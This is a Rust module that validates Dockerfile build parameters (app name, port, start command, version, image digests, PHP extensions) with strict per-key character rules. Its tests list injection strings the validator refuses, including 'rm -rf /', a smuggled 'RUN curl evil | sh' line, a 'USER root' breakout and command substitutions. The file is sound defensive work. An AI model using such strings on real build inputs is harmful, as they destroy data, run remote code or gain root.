//! Dockerfile parameters (`--set key=value`): the keys, their rules, and validation.
//!
//! Every value ends up inside a Dockerfile, so each key accepts only a narrow alphabet: nothing that could
//! end an instruction (newline), open a string (quotes), or reach a shell (`;`, `$`, `|`, `&`, backquote…).

use std::collections::BTreeMap;
use std::fmt;

use serde::Serialize;

/// A parameter key.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize,
)]
#[serde(rename_all = "snake_case")]
pub enum ParamKey {
    AppName,
    Port,
    Start,
    Version,
    Digest,
    BuilderDigest,
    PhpExtensions,
}

impl ParamKey {
    pub const ALL: [ParamKey; 7] = [
        ParamKey::AppName,
        ParamKey::Port,
        ParamKey::Start,
        ParamKey::Version,
        ParamKey::Digest,
        ParamKey::BuilderDigest,
        ParamKey::PhpExtensions,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            ParamKey::AppName => "app_name",
            ParamKey::Port => "port",
            ParamKey::Start => "start",
            ParamKey::Version => "version",
            ParamKey::Digest => "digest",
            ParamKey::BuilderDigest => "builder_digest",
            ParamKey::PhpExtensions => "php_extensions",
        }
    }

    pub fn parse(text: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|k| k.as_str() == text)
    }

    /// What the parameter means, for help texts and the TUI form.
    pub fn help(self) -> &'static str {
        match self {
            ParamKey::AppName => "name of the application (binary, jar, directory)",
            ParamKey::Port => "TCP port the application listens on",
            ParamKey::Start => "entry point: script, module or command with its arguments",
            ParamKey::Version => "runtime version, where the image family offers several",
            ParamKey::Digest => "sha256 digest to pin the final image to (empty: pin by tag)",
            ParamKey::BuilderDigest => "sha256 digest to pin the build stage's image to",
            ParamKey::PhpExtensions => "PHP extensions to build into the image, comma-separated",
        }
    }

    /// The rule a value must follow, as shown in error messages.
    pub fn rule(self) -> &'static str {
        match self {
            ParamKey::AppName => {
                "1-64 characters: letters, digits, '.', '_' or '-', starting with a letter or digit"
            }
            ParamKey::Port => "a whole number from 1 to 65535, without leading zeros",
            ParamKey::Start => {
                "words of letters, digits and . _ - / : = @ , + separated by single spaces; no quotes, newlines or shell characters"
            }
            ParamKey::Version => "a version such as 3.13: digits and dots",
            ParamKey::Digest | ParamKey::BuilderDigest => {
                "empty, or sha256: followed by 64 lowercase hex digits"
            }
            ParamKey::PhpExtensions => {
                "extension names (lowercase letters, digits, '_') separated by commas, e.g. intl,pdo_pgsql"
            }
        }
    }

    fn accepts(self, value: &str) -> bool {
        match self {
            ParamKey::AppName => {
                (1..=64).contains(&value.len())
                    && value
                        .bytes()
                        .next()
                        .is_some_and(|b| b.is_ascii_alphanumeric())
                    && value
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
            }
            ParamKey::Port => {
                // A leading zero would read as octal in some probes and tools: refuse it.
                value.bytes().all(|b| b.is_ascii_digit())
                    && !value.starts_with('0')
                    && value.parse::<u32>().is_ok_and(|p| (1..=65535).contains(&p))
            }
            ParamKey::PhpExtensions => {
                value.is_empty()
                    || (value.len() <= 400
                        && value.split(',').all(|name| {
                            !name.is_empty()
                                && name.bytes().all(|b| {
                                    b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_'
                                })
                        }))
            }
            ParamKey::Start => {
                !value.is_empty()
                    && value.len() <= 200
                    && value.split(' ').all(|word| {
                        !word.is_empty()
                            && word
                                .bytes()
                                .all(|b| b.is_ascii_alphanumeric() || b"._-/:=@,+".contains(&b))
                    })
            }
            ParamKey::Version => {
                (1..=16).contains(&value.len())
                    && value.bytes().all(|b| b.is_ascii_digit() || b == b'.')
                    && !value.starts_with('.')
                    && !value.ends_with('.')
            }
            ParamKey::Digest | ParamKey::BuilderDigest => {
                value.is_empty()
                    || value.strip_prefix("sha256:").is_some_and(|hex| {
                        hex.len() == 64
                            && hex
                                .bytes()
                                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
                    })
            }
        }
    }
}

impl fmt::Display for ParamKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Why a parameter was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ParamError {
    #[error("unknown parameter `{key}`; valid parameters: {}", valid_keys())]
    UnknownKey { key: String },
    #[error("`{0}` is not of the form key=value")]
    NotKeyValue(String),
    #[error("parameter `{key}`: {value:?} is refused; expected {rule}")]
    Invalid {
        key: ParamKey,
        value: String,
        rule: &'static str,
    },
    #[error("parameter `version`: {value:?} is not offered by {image}; choose one of: {}", choices.join(", "))]
    UnsupportedVersion {
        value: String,
        image: String,
        choices: Vec<String>,
    },
    /// The image follows the newest release (a rolling `latest` tag): it has no versions to choose.
    #[error(
        "parameter `version`: {image} follows the newest release and offers no version to choose; {advice}"
    )]
    NoVersions {
        value: String,
        image: String,
        advice: String,
    },
}

fn valid_keys() -> String {
    ParamKey::ALL.map(ParamKey::as_str).join(", ")
}

/// Checks one value against its key's rule.
pub fn validate(key: ParamKey, value: &str) -> Result<(), ParamError> {
    if key.accepts(value) {
        Ok(())
    } else {
        Err(ParamError::Invalid {
            key,
            value: value.to_owned(),
            rule: key.rule(),
        })
    }
}

/// Validated parameter values, by key.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct Params(BTreeMap<&'static str, String>);

impl Params {
    pub fn set(&mut self, key: &str, value: &str) -> Result<(), ParamError> {
        let key = ParamKey::parse(key).ok_or_else(|| ParamError::UnknownKey {
            key: key.to_owned(),
        })?;
        validate(key, value)?;
        self.0.insert(key.as_str(), value.to_owned());
        Ok(())
    }

    pub fn get(&self, key: ParamKey) -> Option<&str> {
        self.0.get(key.as_str()).map(String::as_str)
    }
}

/// Splits `key=value` as given to `--set`.
pub fn split_assignment(text: &str) -> Result<(&str, &str), ParamError> {
    text.split_once('=')
        .map(|(k, v)| (k.trim(), v))
        .ok_or_else(|| ParamError::NotKeyValue(text.to_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_ordinary_values() {
        for (key, value) in [
            (ParamKey::AppName, "orders-api"),
            (ParamKey::Port, "1"),
            (ParamKey::Port, "65535"),
            (ParamKey::Start, "gunicorn --bind=0.0.0.0:8000 app:app"),
            (ParamKey::Start, "dist/server.js"),
            (ParamKey::Version, "3.13"),
            (ParamKey::Digest, ""),
            (ParamKey::Digest, &format!("sha256:{}", "ab".repeat(32))),
        ] {
            assert_eq!(validate(key, value), Ok(()), "{key}={value}");
        }
    }

    #[test]
    fn refuses_injection_and_out_of_range_values() {
        for (key, value) in [
            (ParamKey::Port, "80;rm -rf /"),
            (ParamKey::Port, "0"),
            (ParamKey::Port, "65536"),
            (ParamKey::Port, "+80"),
            (ParamKey::Port, "080"),
            (ParamKey::PhpExtensions, "intl; rm -rf /"),
            (ParamKey::PhpExtensions, "Intl"),
            (ParamKey::Port, ""),
            (ParamKey::AppName, "app\nRUN curl evil | sh"),
            (ParamKey::AppName, "-app"),
            (ParamKey::AppName, ""),
            (ParamKey::Start, "app.py\"]\nUSER root"),
            (ParamKey::Start, "app.py && curl x"),
            (ParamKey::Start, "$(id)"),
            (ParamKey::Start, "`id`"),
            (ParamKey::Start, "a  b"),
            (ParamKey::Start, "it's"),
            (ParamKey::Start, "app.py\\"),
            (ParamKey::Version, "3.13; ls"),
            (ParamKey::Version, "latest"),
            (ParamKey::Digest, "sha256:xyz"),
            (ParamKey::Digest, &format!("sha256:{}", "AB".repeat(32))),
        ] {
            let err = validate(key, value).expect_err(value);
            assert!(err.to_string().contains(&format!("`{key}`")), "{err}");
        }
    }

    #[test]
    fn unknown_keys_list_the_valid_ones() {
        let err = Params::default().set("colour", "red").unwrap_err();
        let text = err.to_string();
        assert!(text.contains("colour") && text.contains("app_name, port, start, version, digest"));
        assert!(text.contains("builder_digest, php_extensions"));
    }

    #[test]
    fn later_values_win() {
        let mut p = Params::default();
        p.set("port", "80").unwrap();
        p.set("port", "8080").unwrap();
        assert_eq!(p.get(ParamKey::Port), Some("8080"));
    }

    #[test]
    fn split_assignment_needs_an_equals_sign() {
        assert_eq!(split_assignment("port=80"), Ok(("port", "80")));
        assert_eq!(split_assignment("start=a=b"), Ok(("start", "a=b")));
        assert!(split_assignment("port").is_err());
    }
}
